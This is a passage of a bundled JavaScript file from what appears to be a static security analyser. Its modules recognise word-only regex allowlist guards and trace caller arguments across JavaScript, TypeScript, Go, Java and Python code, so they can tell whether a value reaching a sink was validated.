;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/safe-pattern.js
/**
 * Whether a JavaScript regex literal is an allowlist of word characters: anchored at both ends (no
 * `m` flag, so `$` is the end of the input), made only of letters, digits and `_` (literal, `\d`,
 * `\w`, or a class of them with ranges inside one of `0-9`, `a-z`, `A-Z`), groups and quantifiers.
 * A string it accepts holds no `/`, `.`, `\`, quote, space, `$`, `;` or `-`: nothing a path, a
 * shell command or an SQL string can be broken out of with (validated.ts). Anything else (an
 * alternation, `.`, a negated class, a class with `-` or `.` in it, the `g`/`y` flags whose `test`
 * keeps state) is not recognised.
 */
const WORD = /[A-Za-z0-9_]/;
const QUANTIFIER = /^(?:\{\d+(?:,\d*)?\}|[+*?])/;
/** Whether `literal` (`/^[0-9a-f]{16}$/i`) accepts only whole strings of letters, digits and `_`. */
function isWordPattern(literal) {
    const parts = /^\/\^(.+)\$\/([a-z]*)$/s.exec(literal);
    if (!parts || /[mgyv]/.test(parts[2]))
        return false;
    const body = parts[1];
    let i = 0;
    while (i < body.length) {
        const step = tokenLength(body, i);
        if (step === 0)
            return false;
        i += step;
    }
    return true;
}
/** The length of the one allowed token at `i` of a pattern's body, or 0 when none is allowed there. */
function tokenLength(body, i) {
    const rest = body.slice(i);
    if (/^\\[dw]/.test(rest))
        return 2;
    if (WORD.test(rest[0]))
        return 1;
    const quantifier = QUANTIFIER.exec(rest);
    if (quantifier)
        return quantifier[0].length;
    if (rest.startsWith('(?:'))
        return 3;
    if (rest[0] === '(' || rest[0] === ')')
        return 1;
    if (rest[0] === '[')
        return classLength(rest);
    return 0;
}
/** The length of a character class of word characters at the start of `text`, or 0. */
function classLength(text) {
    const end = text.indexOf(']');
    if (end < 2 || text[1] === '^')
        return 0;
    const inside = text.slice(1, end);
    let i = 0;
    while (i < inside.length) {
        if (/^\\[dw]/.test(inside.slice(i)))
            i += 2;
        else if (inside[i + 1] === '-' && i + 2 < inside.length) {
            if (!sameRange(inside[i], inside[i + 2]))
                return 0;
            i += 3;
        }
        else if (WORD.test(inside[i]))
            i += 1;
        else
            return 0;
    }
    return end + 1;
}
/** A range within digits, lower-case or upper-case letters: `A-z` also spans `[\]^_` and a backtick. */
function sameRange(from, to) {
    return [/[0-9]/, /[a-z]/, /[A-Z]/].some((set) => set.test(from) && set.test(to)) && from <= to;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/word-guard.js
/** Whether `name`, read at `at` inside `fn`, passed a word allow-list guard earlier in `fn`. */
function passedWordGuard(syntax, fn, name, at) {
    const before = at.range().start.index;
    for (const guard of fn.findAll({ rule: syntax.guards })) {
        const end = guard.range().end.index;
        if (end > before)
            continue;
        if (!syntax.leaves.test(guard.field('consequence')?.text() ?? ''))
            continue;
        const block = guard.parent()?.range();
        if (!block || block.start.index > before || block.end.index < at.range().end.index)
            continue;
        if (!syntax.checksWord(guard, name))
            continue;
        if (!syntax.reassigned(fn, name, end, before))
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/go-validated.js



// What makes the guarded branch leave.
const LEAVES = /^\{\s*(?:return\b|panic\(|log\.(?:Fatal|Panic)\w*\(|os\.Exit\()/;
const SYNTAX = {
    guards: { kind: 'if_statement', regex: 'MatchString|nil' },
    leaves: LEAVES,
    checksWord,
    reassigned: reassignedBetween,
};
/** Whether `name`, read at `at` inside the Go function `fn`, passed a word allowlist guard earlier in `fn`. */
function passedGoWordGuard(fn, name, at) {
    return passedWordGuard(SYNTAX, fn, name, at);
}
/** Whether the guard's condition fails for `name` unless a word pattern (directly or through a checker) matches it. */
function checksWord(guard, name) {
    const root = guard.getRoot().root();
    const condition = guard.field('condition')?.text().trim() ?? '';
    const matched = new RegExp(String.raw `^!\s*(\w+)\.MatchString\(\s*${name}\s*\)$`).exec(condition);
    if (matched)
        return wordRegexp(root, matched[1]);
    // `if err := check(name); err != nil`, or `if check(name) != nil`.
    const initializer = guard.field('initializer')?.text().trim() ?? '';
    const viaError = new RegExp(String.raw `^(\w+)\s*:?=\s*(\w+)\(\s*${name}\s*\)$`).exec(initializer);
    if (viaError && new RegExp(String.raw `^${viaError[1]}\s*!=\s*nil$`).test(condition))
        return wordChecker(root, viaError[2]);
    const direct = new RegExp(String.raw `^(\w+)\(\s*${name}\s*\)\s*!=\s*nil$`).exec(condition);
    return direct !== null && wordChecker(root, direct[1]);
}
/** Whether the file gives the variable `re` just `regexp.MustCompile` of a word pattern. */
function wordRegexp(root, re) {
    const specs = root.findAll({
        rule: {
            any: [{ kind: 'var_spec' }, { kind: 'short_var_declaration' }, { kind: 'assignment_statement' }],
            regex: String.raw `^${re}\b`,
        },
    });
    if (specs.length !== 1)
        return false;
    const pattern = /=\s*regexp\.MustCompile\(\s*(`[^`]*`|"(?:[^"\\]|\\.)*")\s*\)$/.exec(specs[0].text());
    if (!pattern)
        return false;
    const literal = pattern[1];
    // A raw string is the pattern as written; an interpreted one doubles its backslashes.
    const source = literal.startsWith('`') ? literal.slice(1, -1) : literal.slice(1, -1).replace(/\\\\/g, '\\');
    return isWordPattern(`/${source}/`);
}
/**
 * Whether `check` is declared in the file as a function of one parameter whose whole body is
 * `if !re.MatchString(p) { return <error> }` then `return nil`, with `re` a word pattern.
 */
function wordChecker(root, check) {
    const declared = root.findAll({
        rule: { kind: 'function_declaration', has: { field: 'name', regex: `^${check}$` } },
    });
    if (declared.length !== 1)
        return false;
    const fn = declared[0];
    const parameters = (0,flow_syntax/* named */.KT)(fn.field('parameters'));
    const names = parameters.flatMap((p) => (0,flow_syntax/* named */.KT)(p).filter((c) => (0,flow_syntax/* kindOf */.I)(c) === 'identifier'));
    if (parameters.length !== 1 || names.length !== 1)
        return false;
    const parameter = names[0].text();
    const statements = (0,flow_syntax/* named */.KT)(fn.field('body')).flatMap((s) => (0,flow_syntax/* kindOf */.I)(s) === 'statement_list' ? (0,flow_syntax/* named */.KT)(s) : [s]);
    const [guard, last, ...rest] = statements.filter((s) => !/comment/.test((0,flow_syntax/* kindOf */.I)(s)));
    if (!guard || !last || rest.length > 0 || (0,flow_syntax/* kindOf */.I)(guard) !== 'if_statement')
        return false;
    if (last.text().trim() !== 'return nil' || guard.field('initializer'))
        return false;
    const leaves = /^\{\s*return\s+(?!nil\b)\S/.test(guard.field('consequence')?.text() ?? '');
    const condition = guard.field('condition')?.text().trim() ?? '';
    const matched = new RegExp(String.raw `^!\s*(\w+)\.MatchString\(\s*${parameter}\s*\)$`).exec(condition);
    return leaves && matched !== null && wordRegexp(root, matched[1]);
}
// A new value given to `name` after the guard and before the read is not the value that was checked.
function reassignedBetween(fn, name, from, to) {
    return fn
        .findAll({ rule: { any: [{ kind: 'assignment_statement' }, { kind: 'short_var_declaration' }] } })
        .some((def) => {
        const targets = (0,flow_syntax/* named */.KT)(def.field('left')).map((t) => t.text());
        const at = def.range().start.index;
        return targets.includes(name) && at >= from && at < to;
    });
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/java-validated.js



// What makes the guarded branch leave.
const java_validated_LEAVES = /^\{?\s*(?:throw\b|return\b)/;
// A Java string literal's text: its quotes and escapes as written.
const STRING = String.raw `"((?:[^"\\]|\\.)*)"`;
const java_validated_SYNTAX = {
    guards: { kind: 'if_statement', has: { field: 'condition', regex: 'matches\\(' } },
    leaves: java_validated_LEAVES,
    checksWord: java_validated_checksWord,
    reassigned: java_validated_reassignedBetween,
};
/** Whether `name`, read at `at` inside the Java method `fn`, passed a word allowlist guard earlier in `fn`. */
function passedJavaWordGuard(fn, name, at) {
    return passedWordGuard(java_validated_SYNTAX, fn, name, at);
}
/** Whether the guard's condition fails for `name` unless a word pattern matches all of it. */
function java_validated_checksWord(guard, name) {
    const condition = (guard.field('condition')?.text() ?? '').replace(/^\(\s*|\s*\)$/g, '');
    // A Java name may hold `$`, which a regex reads as the end.
    const escaped = name.replace(/\$/g, '\\$');
    const viaField = new RegExp(String.raw `^!\s*(\w+)\.matcher\(\s*${escaped}\s*\)\.matches\(\)$`).exec(condition);
    if (viaField)
        return wordField(guard.getRoot().root(), viaField[1]);
    const inline = new RegExp(String.raw `^!\s*${escaped}\.matches\(\s*${STRING}\s*\)$`).exec(condition);
    return inline !== null && wordSource(inline[1]);
}
/** Whether the file declares `field` once, as `Pattern.compile` of a word pattern (a literal or a constant). */
function wordField(root, field) {
    const compiled = declaredValue(root, field);
    const argument = /^Pattern\.compile\(\s*(.+?)\s*\)$/s.exec(compiled ?? '')?.[1];
    if (argument === undefined)
        return false;
    const literal = new RegExp(`^${STRING}$`).exec(argument);
    if (literal)
        return wordSource(literal[1]);
    if (!/^\w+$/.test(argument))
        return false;
    const constant = new RegExp(`^${STRING}$`).exec(declaredValue(root, argument) ?? '');
    return constant !== null && wordSource(constant[1]);
}
/** The value text of the one declaration of `name` in the file, or null when there is none or several. */
function declaredValue(root, name) {
    const declared = root.findAll({
        rule: { kind: 'variable_declarator', has: { field: 'name', regex: `^${name}$` } },
    });
    if (declared.length !== 1)
        return null;
    return declared[0].field('value')?.text() ?? null;
}
/** Whether a Java string literal's body, read as the regex `matches()` applies to the whole input, is a word pattern. */
function wordSource(body) {
    // The literal doubles its backslashes; `matches()` anchors at both ends.
    const source = body.replace(/\\\\/g, '\\');
    return isWordPattern(`/^(?:${source.replace(/^\^|\$$/g, '')})$/`);
}
// A new value given to `name` after the guard and before the read is not the value that was checked.
function java_validated_reassignedBetween(fn, name, from, to) {
    return fn
        .findAll({ rule: { any: [{ kind: 'assignment_expression' }, { kind: 'variable_declarator' }] } })
        .some((def) => {
        const target = def.field((0,flow_syntax/* kindOf */.I)(def) === 'variable_declarator' ? 'name' : 'left');
        const at = def.range().start.index;
        return (0,flow_syntax/* named */.KT)(target).length === 0 && target?.text() === name && at >= from && at < to;
    });
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/js-guard.js


// Wrappers that hand their operand on unchanged: parentheses and TypeScript's type-only forms.
const WRAPPERS = new Set([
    'parenthesized_expression',
    'as_expression',
    'satisfies_expression',
    'non_null_expression',
    'type_assertion',
]);
const VERSION_CHECK = /^(?:semver\.)?(?:valid|satisfies)$/;
const NUMBER_CHECK = /^Number\.(?:isInteger|isSafeInteger)$/;
const PRIMITIVE_TYPES = /^(['"])(?:number|bigint|boolean)\1$/;
/** `node` without the parentheses and casts around it. */
function unwrap(node) {
    let at = node;
    while (WRAPPERS.has((0,flow_syntax/* kindOf */.I)(at))) {
        // `<string>v` names its type first; every other wrapper names its operand first.
        const parts = (0,flow_syntax/* named */.KT)(at);
        const inner = (0,flow_syntax/* kindOf */.I)(at) === 'type_assertion' ? parts.at(-1) : parts[0];
        if (!inner)
            return at;
        at = inner;
    }
    return at;
}
/**
 * What `condition`, when false, shows `name` to be; null when its falsity says nothing of it.
 * `regexOf` gives the regex literal a name holds ('' when none), for `PATTERN.test(v)`.
 */
function rejectedBy(condition, name, regexOf) {
    const node = unwrap(condition);
    const kind = (0,flow_syntax/* kindOf */.I)(node);
    const operator = node.field('operator')?.text();
    if (kind === 'binary_expression' && operator === '||') {
        const [left, right] = [node.field('left'), node.field('right')];
        return (left && rejectedBy(left, name, regexOf)) || (right && rejectedBy(right, name, regexOf)) || null;
    }
    if (kind === 'binary_expression' && (operator === '!==' || operator === '!='))
        return typeCheck(node, name) ? 'number' : null;
    if (kind === 'unary_expression' && operator === '!') {
        const argument = node.field('argument');
        return argument ? heldBy(argument, name, regexOf) : null;
    }
    return null;
}
/** What `check`, when true, shows `name` to be (a validator's call, or an `&&` of them). */
function heldBy(check, name, regexOf) {
    const node = unwrap(check);
    if ((0,flow_syntax/* kindOf */.I)(node) === 'binary_expression' && node.field('operator')?.text() === '&&') {
        const [left, right] = [node.field('left'), node.field('right')];
        return (left && heldBy(left, name, regexOf)) || (right && heldBy(right, name, regexOf)) || null;
    }
    if ((0,flow_syntax/* kindOf */.I)(node) !== 'call_expression')
        return null;
    const callee = node.field('function');
    const first = (0,flow_syntax/* named */.KT)(node.field('arguments'))[0];
    if (!callee || !first || !isName(first, name))
        return null;
    const text = callee.text();
    if (VERSION_CHECK.test(text))
        return 'version';
    if (NUMBER_CHECK.test(text))
        return 'number';
    if ((0,flow_syntax/* kindOf */.I)(callee) !== 'member_expression')
        return null;
    const method = callee.field('property')?.text();
    const object = callee.field('object');
    if (!object)
        return null;
    if (method === 'includes' || method === 'has')
        return { member: object };
    if (method !== 'test')
        return null;
    const pattern = unwrap(object);
    const literal = (0,flow_syntax/* kindOf */.I)(pattern) === 'regex' ? pattern.text() : regexOf(pattern.text());
    return (0,flow_syntax/* kindOf */.I)(pattern) !== 'regex' && (0,flow_syntax/* kindOf */.I)(pattern) !== 'identifier'
        ? null
        : isWordPattern(literal)
            ? 'word'
            : null;
}
/** Whether `node` is `typeof name !== 'number'` (either way round; `bigint` and `boolean` too). */
function typeCheck(node, name) {
    const [left, right] = [node.field('left'), node.field('right')];
    if (!left || !right)
        return false;
    const sides = [unwrap(left), unwrap(right)];
    const typeOf = sides.find((s) => (0,flow_syntax/* kindOf */.I)(s) === 'unary_expression' && s.field('operator')?.text() === 'typeof');
    const literal = sides.find((s) => (0,flow_syntax/* kindOf */.I)(s) === 'string');
    const operand = typeOf?.field('argument');
    return (operand !== null &&
        operand !== undefined &&
        isName(operand, name) &&
        PRIMITIVE_TYPES.test(literal?.text() ?? ''));
}
/** Whether `node`, unwrapped, is the identifier `name`. */
function isName(node, name) {
    const inner = unwrap(node);
    return (0,flow_syntax/* kindOf */.I)(inner) === 'identifier' && inner.text() === name;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/validated.js





// What makes the guarded branch leave: the value never reaches what follows unless it passed.
const validated_LEAVES = /^(?:throw\b|return\b|process\.exit\(|exit\()/;
/**
 * What `name`, read at `at` inside `fn`, passed a guard for earlier in `fn`; null when no guard holds it.
 */
function passedValidator(fn, name, at, language) {
    if (language === 'go')
        return passedGoWordGuard(fn, name, at) ? 'word' : null;
    if (language === 'java')
        return passedJavaWordGuard(fn, name, at) ? 'word' : null;
    if (language !== 'javascript' && language !== 'typescript' && language !== 'tsx')
        return null;
    const before = at.range().start.index;
    for (const guard of leavingGuards(fn)) {
        if (guard.end > before)
            continue;
        // The guard must stand in a block that holds the read: one inside another branch guards nothing here.
        if (guard.blockStart > before || guard.blockEnd < at.range().end.index)
            continue;
        const kind = rejectedBy(guard.condition, name, (id) => regexHeld(id, fn));
        if (kind !== null && !validated_reassignedBetween(fn, name, guard.end, before))
            return kind;
    }
    return null;
}
/**
 * The `if` statements of `fn` whose condition names a validator and whose branch leaves, searched
 * once per function and tree (tree-memo.ts): every name read in `fn` asks for them.
 */
function leavingGuards(fn) {
    return onTree('validator guards', fn, '', () => {
        // The native search keeps only guards whose condition names a validator: few cross into JS. The
        // pattern is matched against the condition alone, not the whole statement with its nested ifs.
        const found = fn.findAll({
            rule: {
                kind: 'if_statement',
                has: {
                    field: 'condition',
                    regex: String.raw `(?:valid|satisfies|test|includes|has|isInteger|isSafeInteger)\(|\btypeof\b`,
                },
            },
        });
        return found.flatMap((guard) => {
            const consequence = guard.field('consequence');
            const condition = guard.field('condition');
            if (!condition || !consequence || !leaves(consequence))
                return [];
            return guardedSpans(guard).map((span) => ({
                condition,
                end: span.from,
                blockStart: span.start,
                blockEnd: span.end,
            }));
        });
    });
}
/**
 * Whether a branch always leaves: it is, starts or ends with `throw`, `return` or `process.exit(\u2026)`
 * (`{ console.error(usage); process.exit(1); }`). A statement before the last one either runs on to
 * it or leaves itself.
 */
function leaves(branch) {
    if ((0,flow_syntax/* kindOf */.I)(branch) !== 'statement_block')
        return validated_LEAVES.test(branch.text());
    const statements = (0,flow_syntax/* named */.KT)(branch).filter((s) => (0,flow_syntax/* kindOf */.I)(s) !== 'comment');
    return [statements[0], statements.at(-1)].some((s) => s !== undefined && validated_LEAVES.test(s.text()));
}
/**
 * Where the guard holds: from its end to the end of the block it stands in. A guard that stands in
 * a `try` whose `catch` leaves too (`try { \u2026 if (!refs.includes(ref)) process.exit(1) } catch { \u2026;
 * process.exit(1) }`) holds after the `try` as well: no path leaves it with the check failed. Not in
 * the `catch` itself, which may run before the guard did.
 */
function guardedSpans(guard) {
    const block = guard.parent();
    if (!block)
        return [];
    const spans = [
        { from: guard.range().end.index, start: block.range().start.index, end: block.range().end.index },
    ];
    const statement = block.parent();
    if (!statement || (0,flow_syntax/* kindOf */.I)(statement) !== 'try_statement' || statement.field('finalizer'))
        return spans;
    const caught = statement.field('handler')?.field('body');
    const outer = statement.parent();
    const inBody = statement.field('body')?.range().start.index === block.range().start.index;
    if (inBody && caught && outer && leaves(caught))
        spans.push({
            from: statement.range().end.index,
            start: outer.range().start.index,
            end: outer.range().end.index,
        });
    return spans;
}
// A new value given to `name` after the guard and before the sink is not the value that was checked.
function validated_reassignedBetween(fn, name, from, to) {
    return fn
        .findAll({
        rule: {
            any: [
                { kind: 'assignment_expression' },
                { kind: 'augmented_assignment_expression' },
                { kind: 'variable_declarator' },
            ],
        },
    })
        .some((def) => {
        const target = def.field((0,flow_syntax/* kindOf */.I)(def) === 'variable_declarator' ? 'name' : 'left');
        const at = def.range().start.index;
        return target?.text() === name && at >= from && at < to;
    });
}
/**
 * The regex literal a constant named `pattern` holds (in the function or at the file's top level);
 * '' when none.
 */
function regexHeld(pattern, fn) {
    const scopes = [fn, fn.getRoot().root()];
    for (const scope of scopes) {
        const definition = scope.find({
            rule: {
                kind: 'variable_declarator',
                all: [
                    { has: { field: 'name', regex: `^${pattern.replace(/\$/g, '\\$')}$` } },
                    { has: { field: 'value', kind: 'regex' } },
                ],
            },
        });
        const value = definition?.field('value')?.text();
        if (value !== undefined)
            return value;
    }
    return '';
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/caller-arguments.js

/** The position of parameter `name` in `fn`'s parameter list, or -1 when `fn` declares no such parameter. */
function parameterPosition(fn, name, scope) {
    return (0,flow_syntax/* named */.KT)(fn.field('parameters')).findIndex((p) => scope.identifiers(p).some((id) => id.text() === name));
}
/**
 * The values `calls` give parameter `position` of `fn`, or undefined when a call hides them: a spread
 * at or before the position can put anything there. A call that leaves the parameter out gives it its
 * default value (`name = process.argv[2]`), and a rest parameter (`...names`) takes every argument from
 * its position on. Undefined too when no call outside `fn` gives a value (its callers are elsewhere):
 * a recursive call inside `fn` passes on what the outer callers gave, so it adds nothing. With
 * `sameTree` false the calls come from several files and the caller left the recursive ones out.
 */
function argumentsAt(calls, fn, position, sameTree = true) {
    const parameter = (0,flow_syntax/* named */.KT)(fn.field('parameters'))[position];
    if (!parameter)
        return undefined;
    const pattern = parameter.field('pattern');
    const rest = (0,flow_syntax/* kindOf */.I)(parameter) === 'rest_pattern' || (pattern !== null && (0,flow_syntax/* kindOf */.I)(pattern) === 'rest_pattern');
    const fallback = parameter.field('right') ?? parameter.field('value');
    const passed = [];
    for (const call of calls) {
        // Spans compare only within one tree: calls from other files (`sameTree` false) were sorted already.
        if (sameTree && (0,flow_syntax/* isWithin */.UO)(call, fn))
            continue;
        const args = (0,flow_syntax/* named */.KT)(call.field('arguments'));
        if (args.slice(0, position + 1).some((arg) => (0,flow_syntax/* kindOf */.I)(arg) === 'spread_element'))
            return undefined;
        const given = rest ? args.slice(position) : args.slice(position, position + 1);
        if (rest && given.some((arg) => (0,flow_syntax/* kindOf */.I)(arg) === 'spread_element'))
            return undefined;
        if (given.length === 0 && fallback)
            given.push(fallback);
        passed.push(...given);
    }
    return passed.length === 0 ? undefined : passed;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/helper-callers.js



/**
 * The values the file's calls of `fn` pass for its parameter `name`, or undefined when they cannot
 * all be seen: `fn` is not a declared, unexported function, its name is used other than as a
 * callee, a call spreads its arguments, or no call outside `fn` itself is found (its callers are
 * elsewhere).
 */
function helperCallerArguments(fn, name, scope) {
    if ((0,flow_syntax/* kindOf */.I)(fn) !== 'function_declaration')
        return undefined;
    const declared = fn.field('name');
    const parent = fn.parent();
    if (!declared || !parent || (0,flow_syntax/* kindOf */.I)(parent) === 'export_statement')
        return undefined;
    const position = parameterPosition(fn, name, scope);
    if (position < 0)
        return undefined;
    // Every parameter of the helper, read anywhere in it, asks for the same calls: once per tree.
    const calls = onTree('helper calls', fn, '', () => callsOf(fn, declared));
    return calls && argumentsAt(calls, fn, position);
}
/** The file's calls of helper `fn` (named `declared`), or undefined when its name is used otherwise. */
function callsOf(fn, declared) {
    const program = fn.ancestors().at(-1) ?? fn;
    // The name is matched in the native search: only its uses cross into JS, not every identifier.
    const exactly = `^${declared.text().replace(/\$/g, '\\$')}$`;
    const uses = program
        .findAll({
        rule: {
            any: [
                { kind: 'identifier', regex: exactly },
                { kind: 'shorthand_property_identifier', regex: exactly },
            ],
        },
    })
        .filter((u) => !(0,flow_syntax/* isWithin */.UO)(u, declared));
    const calls = [];
    for (const use of uses) {
        const call = use.parent();
        const callee = call?.field('function');
        if (!call || (0,flow_syntax/* kindOf */.I)(call) !== 'call_expression' || !callee || !(0,flow_syntax/* isWithin */.UO)(use, callee))
            return undefined;
        if (callee.range().start.index !== use.range().start.index)
            return undefined;
        calls.push(call);
    }
    return calls;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/private-method-callers.js


const NAME_KINDS = ['property_identifier', 'private_property_identifier'];
/** Whether `method` is private to its class and called on the instance (not `static`). */
function isPrivateInstanceMethod(method) {
    const name = method.field('name');
    if (!name || !NAME_KINDS.includes((0,flow_syntax/* kindOf */.I)(name)))
        return false;
    const modifiers = method.children().filter((c) => c.range().start.index < name.range().start.index);
    if (modifiers.some((c) => c.text() === 'static'))
        return false;
    return ((0,flow_syntax/* kindOf */.I)(name) === 'private_property_identifier' ||
        modifiers.some((c) => (0,flow_syntax/* kindOf */.I)(c) === 'accessibility_modifier' && c.text() === 'private'));
}
/**
 * The values the class's `this.method(\u2026)` calls pass for parameter `name` of `method`, or undefined
 * when they cannot all be seen (see the file comment), or no call outside `method` itself is found.
 */
function privateMethodCallerArguments(method, name, scope) {
    if ((0,flow_syntax/* kindOf */.I)(method) !== 'method_definition' || !isPrivateInstanceMethod(method))
        return undefined;
    const declared = method.field('name');
    const position = parameterPosition(method, name, scope);
    if (position < 0)
        return undefined;
    const program = method.ancestors().at(-1) ?? method;
    const exactly = `^${declared.text().replace(/[$#]/g, '\\$&')}$`;
    const uses = program
        .findAll({ rule: { any: NAME_KINDS.map((kind) => ({ kind, regex: exactly })) } })
        .filter((u) => u.range().start.index !== declared.range().start.index);
    // `this['m'](\u2026)` or `this[key](\u2026)` calls it without naming it: TypeScript allows the bracket on a
    // private member, so any computed access or a string of its name leaves the callers unseen.
    const bare = declared.text().replace(/^#/, '');
    const computed = program.find({
        rule: {
            any: [
                { kind: 'subscript_expression', has: { field: 'object', kind: 'this' } },
                { kind: 'string_fragment', regex: `^${bare.replace(/\$/g, '\\$')}$` },
            ],
        },
    });
    if (computed)
        return undefined;
    const calls = [];
    for (const use of uses) {
        const member = use.parent();
        const call = member?.parent();
        if (!member || (0,flow_syntax/* kindOf */.I)(member) !== 'member_expression' || member.field('object')?.text() !== 'this')
            return undefined;
        if (!call || (0,flow_syntax/* kindOf */.I)(call) !== 'call_expression' || call.field('function')?.id() !== member.id())
            return undefined;
        calls.push(call);
    }
    return argumentsAt(calls, method, position);
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/module-callers.js

const SPLATS = new Set(['list_splat', 'dictionary_splat']);
// Parameters after one of these can only be passed by keyword.
const KEYWORD_ONLY_AFTER = new Set(['list_splat_pattern', 'dictionary_splat_pattern', 'keyword_separator']);
/** A parameter's bound name (`a`, `a=1`, `a: int`, `a: int = 1`), or undefined for a splat or separator. */
function parameterName(param) {
    const kind = (0,flow_syntax/* kindOf */.I)(param);
    if (kind === 'identifier')
        return param.text();
    if (kind === 'default_parameter' || kind === 'typed_default_parameter')
        return param.field('name')?.text();
    if (kind === 'typed_parameter')
        return (0,flow_syntax/* named */.KT)(param)
            .find((c) => (0,flow_syntax/* kindOf */.I)(c) === 'identifier')
            ?.text();
    return undefined;
}
/**
 * The values the module's calls of `fn` pass for its parameter `name` (the parameter's default where
 * a call leaves it out), or undefined when they cannot all be seen: `fn` is not a plain top-level
 * function (a method, a decorated one that something registers), its name is used other than as the
 * callee of a call (passed as a callback, stored, exported in `__all__`), a call unpacks `*args` or
 * `**kwargs`, or no call outside `fn` itself is found.
 */
function moduleCallerArguments(fn, name) {
    if ((0,flow_syntax/* kindOf */.I)(fn) !== 'function_definition' || (0,flow_syntax/* kindOf */.I)(fn.parent() ?? fn) !== 'module')
        return undefined;
    const declared = fn.field('name');
    if (!declared)
        return undefined;
    let position = -1;
    let byPosition = true;
    let fallback;
    let seen = false;
    for (const [i, param] of (0,flow_syntax/* named */.KT)(fn.field('parameters')).entries()) {
        if (KEYWORD_ONLY_AFTER.has((0,flow_syntax/* kindOf */.I)(param)))
            byPosition = false;
        if (parameterName(param) !== name)
            continue;
        position = byPosition ? i : -1;
        fallback = param.field('value') ?? undefined;
        seen = true;
    }
    if (!seen)
        return undefined;
    const program = fn.ancestors().at(-1) ?? fn;
    const exactly = `^${declared.text()}$`;
    const passed = [];
    for (const use of program.findAll({ rule: { kind: 'identifier', regex: exactly } })) {
        if ((0,flow_syntax/* sameSpan */.D4)(use, declared))
            continue;
        const call = use.parent();
        if (!call || (0,flow_syntax/* kindOf */.I)(call) !== 'call' || !(0,flow_syntax/* sameSpan */.D4)(use, call.field('function')))
            return undefined;
        // A recursive call passes on what the outer callers gave.
        if ((0,flow_syntax/* isWithin */.UO)(call, fn))
            continue;
        const args = call.field('arguments');
        if (!args || (0,flow_syntax/* kindOf */.I)(args) !== 'argument_list')
            return undefined;
        const parts = (0,flow_syntax/* named */.KT)(args);
        if (parts.some((p) => SPLATS.has((0,flow_syntax/* kindOf */.I)(p))))
            return undefined;
        const keyword = parts.find((p) => (0,flow_syntax/* kindOf */.I)(p) === 'keyword_argument' && p.field('name')?.text() === name);
        const positional = parts.filter((p) => (0,flow_syntax/* kindOf */.I)(p) !== 'keyword_argument');
        const value = keyword?.field('value') ?? (position >= 0 ? positional[position] : undefined) ?? fallback;
        if (value)
            passed.push(value);
    }
    return passed.length > 0 ? passed : undefined;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/package-callers.js
var package_callers = __webpack_require__(24706);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/route-converters.js

// Werkzeug's converters whose values are closed: numbers, UUIDs, or the words the rule lists.
const CLOSED = /^(?:int|float|uuid|any\([\w\s,'"-]*\))(?:\([^)]*\))?$/;
/**
 * The converter that limits route parameter `name` of the Python view `fn` to a number, a UUID or
 * listed words, when every route decorator of `fn` either declares `name` with one or leaves it to
 * a `defaults=` the decorator writes; undefined when one route passes it as text, or none declares it.
 */
function closedRouteConverter(fn, name) {
    const decorated = fn.parent();
    if (!decorated || (0,flow_syntax/* kindOf */.I)(decorated) !== 'decorated_definition')
        return undefined;
    const routes = decorated
        .children()
        .filter((d) => (0,flow_syntax/* kindOf */.I)(d) === 'decorator' && /\.(route|get|post|put|patch|delete)\(/.test(d.text()));
    const variable = new RegExp(String.raw `<(?:([^<>:]+):)?${name}>`, 'g');
    let closed;
    for (const route of routes) {
        const declared = [...route.text().matchAll(variable)].map((m) => m[1]?.trim() ?? '');
        if (declared.length === 0) {
            // The route does not declare it: Flask passes the decorator's own `defaults` entry.
            if (!new RegExp(String.raw `defaults\s*=\s*\{[^}]*['"]${name}['"]\s*:\s*['"\d]`).test(route.text()))
                return undefined;
            continue;
        }
        const open = declared.find((converter) => !CLOSED.test(converter));
        if (open !== undefined)
            return undefined;
        closed ??= declared[0];
    }
    return closed;
}

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/exported-callers.js


// Functions whose definition is a value of these: a pair's key, a variable, an assignment's target.
const exported_callers_FUNCTION_VALUES = new Set(['arrow_function', 'function_expression', 'function']);
/**
 * The name callers in other files call `fn` by, or undefined when they may use any name: a declared
 * function, a method (not `#private`, a getter or the constructor), or a function held by a
 * variable, an object's key or an assigned property. A default export (`export default function`,
 * `module.exports = function`) is imported under any name.
 */
function callName(fn) {
    const kind = (0,flow_syntax/* kindOf */.I)(fn);
    if (kind === 'function_declaration' || kind === 'generator_function_declaration')
        return plainName(fn, fn.field('name'));
    if (kind === 'method_definition') {
        const name = fn.field('name');
        const accessor = fn.children().some((c) => c.text() === 'get' || c.text() === 'set');
        if (!name || (0,flow_syntax/* kindOf */.I)(name) !== 'property_identifier' || accessor || name.text() === 'constructor')
            return undefined;
        return name.text();
    }
    if (!exported_callers_FUNCTION_VALUES.has(kind))
        return undefined;
    const parent = fn.parent();
    if (!parent)
        return undefined;
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'pair')
        return propertyName(parent.field('key'));
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'variable_declarator')
        return plainName(parent, parent.field('name'));
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'assignment_expression') {
        const left = parent.field('left');
        if (!left || (0,flow_syntax/* kindOf */.I)(left) !== 'member_expression' || /^(module\.)?exports$/.test(left.text()))
            return undefined;
        return propertyName(left.field('property'));
    }
    return undefined;
}
function propertyName(key) {
    return key && (0,flow_syntax/* kindOf */.I)(key) === 'property_identifier' ? key.text() : undefined;
}
/** A declaration's identifier, unless the declaration is the module's default export. */
function plainName(declaration, name) {
    if (!name || (0,flow_syntax/* kindOf */.I)(name) !== 'identifier')
        return undefined;
    const statement = declaration.ancestors().find((a) => (0,flow_syntax/* kindOf */.I)(a) === 'export_statement');
